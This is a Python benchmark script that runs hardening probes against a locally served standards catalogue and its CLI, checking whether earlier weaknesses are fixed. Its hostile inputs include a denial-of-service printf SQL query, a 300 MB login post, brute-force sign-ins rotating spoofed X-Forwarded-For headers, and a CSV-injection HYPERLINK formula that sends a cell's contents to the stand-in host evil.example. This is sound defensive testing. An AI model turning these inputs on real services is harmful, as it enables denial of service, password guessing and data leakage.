"""The probes of issue 19 (a hostile visitor, an unlucky operator), run by hand; prints one line per probe.

    .venv/bin/python benchmarks/probe_hardening.py [--launcher PATH] [--workdir DIR]

``--launcher`` runs another tree's ``standards`` CLI (a file like ``launch.py`` calling its ``cli()``), so the
same probes measure the code before a change. Site probes serve the bundled sample catalogue (``standards serve``
in a subprocess on 127.0.0.1); batch probes use HAND-WRITTEN files made here (nothing here is real data).
"""

from __future__ import annotations

import argparse
import json
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import quote, urlencode

ROWS: list[tuple[str, str]] = []


def report(name: str, value: object) -> None:
    ROWS.append((name, str(value)))
    print(f"{name:70} {value}", flush=True)


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class Probe:
    def __init__(self, launcher: list[str], workdir: Path) -> None:
        self.launcher, self.workdir = launcher, workdir

    def cli(self, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
        return subprocess.run([*self.launcher, *args], capture_output=True, text=True, timeout=timeout)

    def serve(self, db: Path, members: Path, *extra: str) -> tuple[subprocess.Popen[bytes], str]:
        port = free_port()
        env = {**os.environ, "DATASETTE_SECRET": "probe", "TMPDIR": str(self.workdir / "tmp")}
        process = subprocess.Popen(
            [*self.launcher, "serve", "--db", str(db), "--port", str(port), "--no-sample", "--members", str(members)]
            + list(extra),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            env=env,
        )
        url = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 90
        while True:
            try:
                urllib.request.urlopen(url + "/-/versions.json", timeout=5).read()
                return process, url
            except OSError:
                if process.poll() is not None or time.monotonic() > deadline:
                    raise SystemExit("server did not start: " + process.stderr.read().decode()[-500:]) from None
                time.sleep(0.2)


def get(url: str, headers: dict[str, str] | None = None, timeout: float = 120) -> tuple[int, str, float]:
    started = time.perf_counter()
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers or {}), timeout=timeout) as r:
            return r.status, r.read().decode("utf-8", "replace"), time.perf_counter() - started
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode("utf-8", "replace"), time.perf_counter() - started


def sign_in(url: str, user: str, password: str, forwarded: str | None = None) -> int:
    headers = {"X-Forwarded-For": forwarded} if forwarded else {}
    try:
        form = urllib.request.urlopen(urllib.request.Request(url + "/-/login", headers=headers), timeout=30)
    except urllib.error.HTTPError as exc:
        return exc.code
    page = form.read().decode()
    cookie = re.search(r"ds_csrftoken=([^;]+)", form.headers.get("set-cookie") or "").group(1)
    token = re.search(r'name="csrftoken" value="([^"]+)"', page).group(1)
    data = urlencode({"username": user, "password": password, "csrftoken": token}).encode()

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):  # type: ignore[no-untyped-def]
            return None

    request = urllib.request.Request(
        url + "/-/login", data=data, headers={"Cookie": f"ds_csrftoken={cookie}", **headers}
    )
    try:
        return urllib.request.build_opener(NoRedirect).open(request, timeout=30).status
    except urllib.error.HTTPError as exc:
        return exc.code


def rss_mb(pid: int) -> float:
    return int(re.search(r"VmRSS:\s+(\d+)", Path(f"/proc/{pid}/status").read_text()).group(1)) / 1024


def site_probes(probe: Probe, db: Path, members: Path, cookie: str) -> None:
    member = {"Cookie": cookie}
    process, url = probe.serve(db, members, "--workers", "1")
    try:
        slow = "select length(printf('%.*c',2000000000,'x'))"
        status, _, seconds = get(url + "/catalog.json?sql=" + quote(slow), member)
        report("1. member's printf SQL: status, seconds", f"{status}, {seconds:.1f} s")
        results: list[float] = []
        threads = [
            threading.Thread(target=lambda: get(url + "/catalog.json?sql=" + quote(slow), member)) for _ in range(3)
        ]
        for t in threads:
            t.start()
        time.sleep(0.5)
        status, _, seconds = get(url + "/catalog/standards?_size=5")
        results.append(seconds)
        for t in threads:
            t.join()
        report("1. anonymous table page during 3 such queries: status, seconds", f"{status}, {seconds:.1f} s")
        flood = "a* " * 2000
        status, _, seconds = get(url + "/catalog/search.json?country=&q=" + quote(flood))
        report('2. ?q= of "a* " x 2000: status, seconds (sample catalogue)', f"{status}, {seconds:.2f} s")
        body = b"username=x&password=" + b"x" * (300 * 1024 * 1024)
        before = rss_mb(process.pid)
        started = time.perf_counter()
        request = urllib.request.Request(url + "/-/login", data=body)
        try:
            status = urllib.request.urlopen(request, timeout=120).status
        except urllib.error.HTTPError as exc:
            status = exc.code
        except OSError as exc:
            status = f"connection closed ({type(exc).__name__})"
        seconds = time.perf_counter() - started
        report(
            "5. 300 MB sign-in post: status, seconds, server RSS before -> after",
            f"{status}, {seconds:.1f} s, {before:.0f} -> {rss_mb(process.pid):.0f} MB",
        )
        del body
        formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        import sqlite3

        with sqlite3.connect(db) as conn:
            conn.execute(
                "insert into reviews (foreign_id, chinese_id, decision, reviewer, reviewed_at, note) "
                "select foreign_id, chinese_id, 'confirmed', 'probe', '2024-01-01T00:00:00+00:00', ? from suggestions limit 1",
                (formula,),
            )
        _, text, _ = get(url + "/catalog/reviews.csv?_size=max")
        report(
            "6. formula in /catalog/reviews.csv",
            "neutralised ('=...)" if "'=HYPERLINK" in text else ("LIVE formula" if "=HYPERLINK" in text else "absent"),
        )
    finally:
        process.terminate()
        process.wait(timeout=30)
    # 3 and 4: throttle
    process, url = probe.serve(db, members, "--workers", "1")
    try:
        for i in range(20):
            sign_in(url, f"guess{i}", "wrong")
        statuses = [sign_in(url, f"other{i}", "wrong", forwarded=f"10.9.{i}.1") for i in range(25)]
        report(
            "3. blocked address, 25 attempts with new X-Forwarded-For: hashed (200) / refused (429)",
            f"{statuses.count(200)} / {statuses.count(429)}",
        )
        status = sign_in(url, "wang.li", "correct horse", forwarded="10.9.99.1")
        report("3. then a real sign-in with a new X-Forwarded-For", status)
    finally:
        process.terminate()
        process.wait(timeout=30)
    process, url = probe.serve(
        db, members, "--workers", "1", *(["--forwarded-allow-ips", "127.0.0.1"] if probe.new else [])
    )
    try:
        for _ in range(5):
            sign_in(url, "wang.li", "wrong", forwarded="198.51.100.66")
        status = sign_in(url, "wang.li", "correct horse", forwarded="203.0.113.7")
        report("4. wang.li's own sign-in after 5 wrong passwords from a stranger's address", status)
    finally:
        process.terminate()
        process.wait(timeout=30)


def batch_probes(probe: Probe) -> None:
    w = probe.workdir
    good = {"designation": "SANS 10142-1:2020", "title": "Wiring of premises", "title_lang": "en"}
    mixed = w / "mixed.jsonl"
    mixed.write_text(json.dumps(good) + '\n{"designation": "GB/T 1-2020", "titles": {"en": "bad \\ud800"}}\n', "utf-8")
    result = probe.cli("load", str(mixed), "--db", str(w / "load.db"))
    import sqlite3

    with sqlite3.connect(w / "load.db") as conn:
        loaded = conn.execute("select count(*) from standards").fetchone()[0]
    report("7. load with a lone surrogate in one title: exit code, records loaded", f"{result.returncode}, {loaded}")
    result = probe.cli("extract", "jsonl", str(mixed))
    report("7. extract jsonl of it: exit code, traceback", f"{result.returncode}, {'Traceback' in result.stderr}")
    inf = w / "inf.jsonl"
    inf.write_text('{"designation": "GB/T 3-2020", "extra": {"n": 1e999}}\n', "utf-8")
    result = probe.cli("extract", "jsonl", str(inf))
    report("9. extract of extra 1e999: writes Infinity", "Infinity" in result.stdout)
    with sqlite3.connect(w / "load.db") as conn:
        shown = json.dumps(
            conn.execute("select sources from runs").fetchall()
            + conn.execute("select location from quarantine").fetchall()
        )
    report("9. absolute server path in runs/quarantine", str(w) in shown)
    # restore
    backup = w / "backup.jsonl"
    probe.cli("backup", str(backup), "--db", str(w / "catalog.db"))
    lines = backup.read_text("utf-8").splitlines()
    index = next(i for i, line in enumerate(lines) if line.startswith('{"t": "standards"'))
    cases = {
        "rowid 2**70": lambda d: {**d, "rowid": 2**70},
        "bad base64": lambda d: {**d, "row": {**d["row"], "status_raw": {"$base64": "!!"}}},
        "t a list": lambda d: {**d, "t": ["standards"]},
        "titles not JSON": lambda d: {**d, "row": {**d["row"], "titles": "{x"}},
        "titles a JSON list": lambda d: {**d, "row": {**d["row"], "titles": "[1]"}},
    }
    for name, change in cases.items():
        changed = list(lines)
        changed[index] = json.dumps(change(json.loads(changed[index])))
        path = w / "hostile-backup.jsonl"
        path.write_text("\n".join(changed) + "\n", "utf-8")
        target = w / f"restored-{abs(hash(name))}.db"
        result = probe.cli("restore", str(path), "--db", str(target))
        report(f"8. restore, {name}: exit code, traceback", f"{result.returncode}, {'Traceback' in result.stderr}")
    # reviews import
    with sqlite3.connect(w / "load.db") as conn:
        pass
    probe.cli("sample-catalog", "--db", str(w / "imp.db"), "--no-match")
    row = {
        "kind": "equivalence",
        "foreign_id": "ГОСТ Р ИСО 9001-2015",
        "chinese_id": "GB/T 19001-2016",
        "decision": "confirmed",
        "reviewer": "m",
        "reviewed_at": "2024-05-01T10:00:00+00:00",
        "note": "ok",
    }
    imports = {
        "a surrogate": json.dumps({**row, "note": "x"}).replace('"x"', '"\\ud800"').encode(),
        "an integer foreign_id": json.dumps({**row, "foreign_id": 9001}).encode(),
        "100,000 nested [": b"[" * 100_000,
        "invalid UTF-8": json.dumps({**row, "note": "caf\u00e9"}, ensure_ascii=False)
        .encode()
        .replace("é".encode(), b"\xe9"),
    }
    for name, bad in imports.items():
        path = w / "import.jsonl"
        path.write_bytes(json.dumps({**row, "note": "first"}).encode() + b"\n" + bad + b"\n")
        result = probe.cli("reviews", "import", str(path), "--db", str(w / "imp.db"))
        report(
            f"8. reviews import, {name}: exit code, traceback, good row kept",
            f"{result.returncode}, {'Traceback' in result.stderr}, {'imported 1' in result.stdout + result.stderr}",
        )
        with sqlite3.connect(w / "imp.db") as conn:
            conn.execute("delete from reviews")
    import csv
    import io

    text = io.StringIO()
    writer = csv.DictWriter(text, list(row))
    writer.writeheader()
    writer.writerows([{**row, "note": "first"}, {**row, "note": "x" * 200_000}])
    (w / "import.csv").write_text(text.getvalue(), "utf-8")
    result = probe.cli("reviews", "import", str(w / "import.csv"), "--db", str(w / "imp.db"))
    report(
        "8. reviews import, CSV field over 131,072 characters: exit code, traceback",
        f"{result.returncode}, {'Traceback' in result.stderr}",
    )
    for name, content in (("garbage", b"not a database " * 100), ("0-byte", b"")):
        path = w / f"{name}.db"
        path.write_bytes(content)
        process = subprocess.Popen(
            [*probe.launcher, "serve", "--db", str(path), "--port", str(free_port()), "--workers", "1"],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
        )
        try:
            output, _ = process.communicate(timeout=20)
            outcome = f"exit {process.returncode}"
        except subprocess.TimeoutExpired:
            process.kill()
            output, _ = process.communicate()
            outcome = "still running after 20 s"
        report(
            f"8. serve --db {name}.db: outcome, said 'serving', traceback",
            f"{outcome}, {'serving' in output}, {'Traceback' in output}",
        )


def kill_probe(probe: Probe, db: Path, members: Path) -> None:
    temp = probe.workdir / "tmp"
    process, url = probe.serve(db, members, "--workers", "2")
    children = Path(f"/proc/{process.pid}/task/{process.pid}/children").read_text().split()
    workers = [int(p) for p in children if b"spawn_main" in Path(f"/proc/{p}/cmdline").read_bytes()]
    process.send_signal(signal.SIGKILL)
    process.wait()
    time.sleep(5)
    alive = [p for p in workers if Path(f"/proc/{p}").exists()]
    status, _, _ = get(url + "/-/versions.json", timeout=5) if alive else (None, "", 0)
    report("9. kill -9 of serve --workers 2: workers alive after 5 s, site answering", f"{len(alive)}, {status}")
    for p in alive:
        os.kill(p, signal.SIGKILL)
    left = [d for d in temp.glob("brics-serve-*") if (d / "config.json").exists()]
    report("9. members' hashes left in the temporary folder", len(left))
    process, url = probe.serve(db, members, "--workers", "2")
    report("9. ... after the next multi-process run started", sum(d.exists() for d in left))
    process.terminate()
    process.wait(timeout=30)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--launcher", type=Path, help="a launch.py of another tree (the code before a change)")
    parser.add_argument("--workdir", type=Path)
    args = parser.parse_args()
    launcher = (
        [sys.executable, str(args.launcher)]
        if args.launcher
        else [sys.executable, "-c", "from standards_lib.cli.main import cli; cli()"]
    )
    workdir = args.workdir or Path(tempfile.mkdtemp(prefix="probe-"))
    (workdir / "tmp").mkdir(parents=True, exist_ok=True)
    probe = Probe(launcher, workdir)
    probe.new = "--forwarded-allow-ips" in probe.cli("serve", "--help").stdout  # type: ignore[attr-defined]
    db = workdir / "catalog.db"
    probe.cli("sample-catalog", "--db", str(db))
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    from standards_lib.publish.members import hash_password

    members = workdir / "members.json"
    members.write_text(json.dumps({"wang.li": hash_password("correct horse", iterations=20_000)}), "utf-8")
    from datasette.app import Datasette

    cookie = "ds_actor=" + Datasette([], secret="probe").sign({"a": {"id": "wang.li"}}, "actor")
    batch_probes(probe)
    site_probes(probe, db, members, cookie)
    kill_probe(probe, db, members)


if __name__ == "__main__":
    main()
